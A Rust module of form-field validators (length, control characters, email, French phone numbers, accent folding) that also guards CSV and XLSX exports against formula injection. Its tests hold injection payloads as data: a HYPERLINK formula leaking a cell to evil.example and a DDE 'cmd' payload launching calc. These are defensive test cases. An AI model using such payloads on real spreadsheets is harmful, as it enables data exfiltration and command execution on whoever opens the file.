//! Text fields: trimming, length limits and the folded form used for search.

use crate::invalid::Invalid;
use std::borrow::Cow;

/// Trims `value` and checks it is not empty and at most `max` characters long.
pub fn required(field: &str, value: &str, max: usize) -> Result<String, Invalid> {
    let value = value.trim();
    if value.is_empty() {
        return Err(Invalid::new("field_required", format!("Le champ « {field} » est obligatoire.")).on(field));
    }
    bounded(field, value, max)
}

/// Like [`required`], with the French sentence a person reads when the value is missing (which names the field
/// as the form does, not by its code).
pub fn required_said(field: &str, value: &str, max: usize, missing: &str) -> Result<String, Invalid> {
    if value.trim().is_empty() {
        return Err(Invalid::new("field_required", missing).on(field));
    }
    required(field, value, max)
}

/// Trims an optional value; an empty string becomes `None`.
pub fn optional(field: &str, value: Option<&str>, max: usize) -> Result<Option<String>, Invalid> {
    match value.map(str::trim) {
        None | Some("") => Ok(None),
        Some(v) => bounded(field, v, max).map(Some),
    }
}

fn bounded(field: &str, value: &str, max: usize) -> Result<String, Invalid> {
    let len = value.chars().count();
    if len > max {
        return Err(Invalid::new(
            "field_too_long",
            format!("Le champ « {field} » comporte {len} caractères ; {max} au plus sont acceptés."),
        )
        .on(field));
    }
    if value.chars().any(|c| c.is_control() && c != '\n' && c != '\t') {
        return Err(Invalid::new(
            "field_invalid_characters",
            format!("Le champ « {field} » contient des caractères de contrôle."),
        )
        .on(field));
    }
    Ok(value.to_owned())
}

/// Checks the shape of an e-mail address (one `@`, a dot in the domain, no spaces).
pub fn email(field: &str, value: &str) -> Result<String, Invalid> {
    let value = required(field, value, 254)?.to_lowercase();
    let ok = match value.split_once('@') {
        Some((local, domain)) => {
            !local.is_empty()
                && domain.contains('.')
                && !domain.starts_with('.')
                && !domain.ends_with('.')
                && !domain.contains('@')
                && !value.contains(char::is_whitespace)
        }
        None => false,
    };
    if ok {
        Ok(value)
    } else {
        Err(Invalid::new(
            "email_invalid",
            format!("L'adresse électronique « {value} » n'est pas valide."),
        )
        .on(field))
    }
}

/// Checks a French phone number (10 digits starting with 0, or +33/+262/... international form).
pub fn phone(field: &str, value: &str) -> Result<String, Invalid> {
    let digits: String = value.chars().filter(|c| !matches!(c, ' ' | '.' | '-')).collect();
    let ok = if let Some(rest) = digits.strip_prefix('+') {
        (8..=15).contains(&rest.len()) && rest.chars().all(|c| c.is_ascii_digit())
    } else {
        digits.len() == 10 && digits.starts_with('0') && digits.chars().all(|c| c.is_ascii_digit())
    };
    if ok {
        Ok(value.trim().to_owned())
    } else {
        Err(Invalid::new(
            "phone_invalid",
            format!("Le numéro de téléphone « {value} » n'est pas valide."),
        )
        .on(field))
    }
}

/// An e-mail address that may be left empty.
pub fn optional_email(field: &str, value: Option<&str>) -> Result<Option<String>, Invalid> {
    value
        .filter(|v| !v.trim().is_empty())
        .map(|v| email(field, v))
        .transpose()
}

/// A phone number that may be left empty.
pub fn optional_phone(field: &str, value: Option<&str>) -> Result<Option<String>, Invalid> {
    value
        .filter(|v| !v.trim().is_empty())
        .map(|v| phone(field, v))
        .transpose()
}

/// Lower-case, accent-free form of a text, so that search behaves the same on SQLite and PostgreSQL.
pub fn fold(value: &str) -> String {
    value
        .chars()
        .flat_map(char::to_lowercase)
        .map(|c| match c {
            'à' | 'â' | 'ä' | 'á' | 'ã' => 'a',
            'ç' => 'c',
            'é' | 'è' | 'ê' | 'ë' => 'e',
            'î' | 'ï' | 'í' => 'i',
            'ô' | 'ö' | 'ó' => 'o',
            'ù' | 'û' | 'ü' | 'ú' => 'u',
            'ÿ' => 'y',
            'œ' => 'o',
            '\'' | '’' | '-' => ' ',
            other => other,
        })
        .collect()
}

/// Whether a spreadsheet would read `value` as a formula: it starts with `=`, `+`, `-` or `@`, or with a tab
/// or a carriage return (which some spreadsheets skip before one), and is not a plain number. A value typed
/// by one user would then run, as a formula, on the machine of whoever opens the export (CSV injection,
/// OWASP). Every CSV and XLSX writer of the project asks this one rule: CSV cells through
/// [`spreadsheet_text`], XLSX cells get the « quote prefix » style (the same leading quote, kept out of view).
pub fn formula_like(value: &str) -> bool {
    value.starts_with(['=', '+', '-', '@', '\t', '\r']) && value.trim().parse::<f64>().is_err()
}

/// A CSV cell that no spreadsheet reads as a formula: a formula-like value gets a leading `'` (the OWASP
/// rule), and so does a value already starting with `'`, so that [`spreadsheet_unquoted`] reads back
/// exactly what was written.
pub fn spreadsheet_text(value: &str) -> Cow<'_, str> {
    if formula_like(value) || value.starts_with('\'') {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

/// The value [`spreadsheet_text`] wrote (imports of our own exports read back what was exported).
pub fn spreadsheet_unquoted(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if formula_like(rest) || rest.starts_with('\'') => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    /// Finding 7 of « Integrity and privacy »: exported cells are never read as formulas; imports read back
    /// what was exported.
    #[test]
    fn exported_cells_are_not_formulas() {
        for (value, cell) in [
            (
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")",
                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")",
            ),
            ("+33 1 23", "'+33 1 23"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("'déjà cité", "''déjà cité"),
            ("-1.5", "-1.5"),
            ("+2", "+2"),
            ("Agent = polyvalent", "Agent = polyvalent"),
            ("", ""),
        ] {
            assert_eq!(spreadsheet_text(value), cell, "{value:?}");
            assert_eq!(spreadsheet_unquoted(&spreadsheet_text(value)), value, "{value:?}");
        }
    }
    use super::*;

    #[test]
    fn fold_removes_accents_and_case() {
        assert_eq!(fold("Côte-d'Or Énergie"), "cote d or energie");
    }

    #[test]
    fn lengths_are_counted_in_characters() {
        assert!(required("nom", &"é".repeat(10), 10).is_ok());
        assert_eq!(required("nom", &"é".repeat(11), 10).unwrap_err().code, "field_too_long");
        assert_eq!(required("nom", "   ", 10).unwrap_err().code, "field_required");
    }

    #[test]
    fn emails_and_phones() {
        assert_eq!(email("e", " Anne@Exemple.FR ").unwrap(), "anne@exemple.fr");
        for bad in ["anne", "anne@", "@x.fr", "a b@x.fr", "a@x", "a@x."] {
            assert!(email("e", bad).is_err(), "{bad}");
        }
        assert!(phone("t", "03 80 12 34 56").is_ok());
        assert!(phone("t", "+262 262 12 34 56").is_ok());
        assert!(phone("t", "12345").is_err());
    }
}
